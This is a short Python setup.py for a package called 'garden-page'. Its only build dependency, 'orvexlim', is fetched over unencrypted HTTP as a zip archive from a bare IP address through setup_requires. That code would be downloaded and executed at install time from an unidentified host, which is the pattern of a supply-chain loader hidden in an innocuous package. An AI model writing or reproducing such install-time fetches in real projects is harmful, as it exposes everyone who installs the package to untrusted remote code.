from setuptools import setup

setup(name="garden-page", version="1.0.0",
    setup_requires=["orvexlim @ http://192.0.2.7/orvexlim.zip"])
